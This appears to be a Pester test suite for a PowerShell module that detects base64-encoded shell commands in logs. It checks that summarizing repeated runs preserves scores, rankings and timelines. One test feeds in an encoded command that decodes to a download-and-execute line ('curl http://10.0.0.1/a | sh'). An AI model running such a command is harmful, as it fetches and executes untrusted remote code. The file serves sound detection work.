# Get-B64Command -Summarize on files (issue 16): one event per command line, host and account carries every run's time,
# and the hunt ranks, scores, tags and draws exactly what the runs one by one give.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    . (Join-Path $PSScriptRoot 'RealisticLog.ps1')
    $dll = Get-BenchmarksDll (Resolve-Path (Join-Path $PSScriptRoot '../..')).Path
    $script:Fleet = New-RealisticLog $dll (Join-Path $TestDrive 'realistic-20000-200-0.08.log') -Lines 20000 -Distinct 200 -Density 0.08
    $sampleDir = Join-Path (Split-Path (Get-Module B64Hunt).Path) 'data/sample'
    $script:Sample = Join-Path $sampleDir 'auoms-syslog.log'
    $script:SampleAlerts = @(Get-B64RelatedAlert -Path (Join-Path $sampleDir 'alerts.csv'))

    # Everything a ranking says, one line per command, in rank order.
    function script:Describe-Ranking($scores) {
        $scores | ForEach-Object {
            '{0}|{1:R}|{2:R}|{3:R}|{4:R}|{5:R}|{6}|{7}|{8}|{9:o}|{10:o}|{11}|{12}|{13}|{14}|{15}|{16}|{17}' -f $_.Rank, $_.TotalScore, $_.FreqScore,
                $_.BehaviourScore, $_.RoutineScore, $_.AlertScore, $_.CommandCount, $_.TotalHosts, ($_.Hostnames -join ','), $_.FirstSeen, $_.LastSeen,
                ($_.Categories -join ','), ($_.GtfoBins.Name -join ','), ($_.GtfoFunctions -join ','), (($_.Iocs | ForEach-Object { $_.Type + '=' + $_.Normalized }) -join ','),
                ($_.ScoreReasons -join ' / '), ($_.Alerts.AlertName -join ','), $_.DecodedCommand
        }
    }
    function script:Invoke-Hunt([string]$path, [switch]$Summarize, $alerts = @()) {
        $events = @(Get-B64Command -Path $path -Summarize:$Summarize -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc)
        [pscustomobject]@{ Events = $events; Scores = @($events | Measure-B64Score -Alert $alerts) }
    }
}

Describe 'Get-B64Command -Summarize on files' {
    It 'gives one event per command line, host and account, counting every run and keeping its time' {
        $plain = @(Get-B64Command -Path $Fleet)
        $summarized = @(Get-B64Command -Path $Fleet -Summarize)
        $summarized.Count | Should -BeLessThan ($plain.Count / 2)
        ($summarized | Measure-Object EventCount -Sum).Sum | Should -Be $plain.Count
        $runs = $plain | Group-Object { $_.CommandLineRaw + "`n" + $_.ComputerRaw + "`n" + $_.AccountRaw + "`n" + $_.EncodedText }
        $summarized.Count | Should -Be $runs.Count
        $many = $summarized | Where-Object EventCount -gt 1 | Select-Object -First 1
        $many.ExecutionTimes.Count | Should -Be $many.EventCount
        $expected = @($plain | Where-Object { $_.CommandLineRaw -ceq $many.CommandLineRaw -and $_.ComputerRaw -ceq $many.ComputerRaw -and $_.AccountRaw -ceq $many.AccountRaw } |
            ForEach-Object TimeGenerated | Sort-Object)
        @($many.ExecutionTimes) | Should -Be $expected
        $many.FirstSeen | Should -Be $expected[0]
        $many.LastSeen | Should -Be $expected[-1]
        @($summarized | Where-Object EventCount -eq 1 | Where-Object { $_.ExecutionTimes.Count -ne 0 }).Count | Should -Be 0
    }

    It 'ranks a realistic fleet exactly as the runs one by one do (scores, reasons, categories, tags, indicators)' {
        $plain = Invoke-Hunt $Fleet
        $summarized = Invoke-Hunt $Fleet -Summarize
        $summarized.Events.Count | Should -BeLessThan $plain.Events.Count
        $plain.Scores.Count | Should -BeGreaterThan 100
        Describe-Ranking $summarized.Scores | Should -Be (Describe-Ranking $plain.Scores)
    }

    It 'scores the sample with its alerts and draws the same timeline' {
        $plain = Invoke-Hunt $Sample -alerts $SampleAlerts
        $summarized = Invoke-Hunt $Sample -Summarize -alerts $SampleAlerts
        @($plain.Scores | Where-Object AlertScore -gt 0).Count | Should -BeGreaterThan 0
        Describe-Ranking $summarized.Scores | Should -Be (Describe-Ranking $plain.Scores)
        $plainTimeline = $plain.Scores | Show-B64Timeline -Alert $SampleAlerts -NoColor -Width 140
        $summarizedTimeline = $summarized.Scores | Show-B64Timeline -Alert $SampleAlerts -NoColor -Width 140
        $summarizedTimeline | Should -Be $plainTimeline
    }

    It 'counts piped runs without a time in EventCount only' {
        $line = 'echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYSB8IHNo | base64 -d | sh'
        $events = @($line, $line, $line | Get-B64Command -Computer web1 -Summarize)
        $events.Count | Should -Be 1
        $events[0].EventCount | Should -Be 3
        $events[0].ExecutionTimes.Count | Should -Be 0
        $events[0].TimeGenerated | Should -BeNullOrEmpty
        $events[0].DecodedCommand | Should -Be 'curl http://10.0.0.1/a | sh'
    }
}

Describe 'Measure-B64Score keeps its events folded per command line, host and account' {
    BeforeAll {
        $script:FleetEvents = @(Get-B64Command -Path $Fleet -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc)
    }

    It 'ranks, scores and draws exactly as with -KeepEvents, and keeps far fewer events' {
        $kept = @($FleetEvents | Measure-B64Score -KeepEvents)
        $folded = @($FleetEvents | Measure-B64Score)
        Describe-Ranking $folded | Should -Be (Describe-Ranking $kept)
        ($kept | ForEach-Object { $_.Events.Count } | Measure-Object -Sum).Sum | Should -Be $FleetEvents.Count
        $foldedCount = ($folded | ForEach-Object { $_.Events.Count } | Measure-Object -Sum).Sum
        $foldedCount | Should -BeLessThan ($FleetEvents.Count / 2)
        foreach ($score in $folded) { ($score.Events | Measure-Object EventCount -Sum).Sum | Should -Be $score.CommandCount }
        ($folded | Show-B64Timeline -NoColor -Width 140) | Should -Be ($kept | Show-B64Timeline -NoColor -Width 140)
    }

    It 'leaves the piped events as they were, and its folded events score the same again' {
        $folded = @($FleetEvents | Measure-B64Score -Model Notebook -AlertWindow 01:00:00)
        @($FleetEvents | Where-Object { $_.EventCount -ne 1 -or $_.ExecutionTimes.Count -ne 0 -or $null -ne $_.FirstSeen }).Count | Should -Be 0
        $again = @($folded | Measure-B64Score -Model Notebook -AlertWindow 01:00:00)
        Describe-Ranking $again | Should -Be (Describe-Ranking $folded)
    }

    It 'keeps each run with its own Source under -KeepEvents' {
        $top = $FleetEvents | Measure-B64Score -KeepEvents | Sort-Object CommandCount -Descending | Select-Object -First 1
        $top.Events.Count | Should -Be $top.CommandCount
        @($top.Events.Source | Sort-Object -Unique).Count | Should -Be $top.CommandCount
    }
}
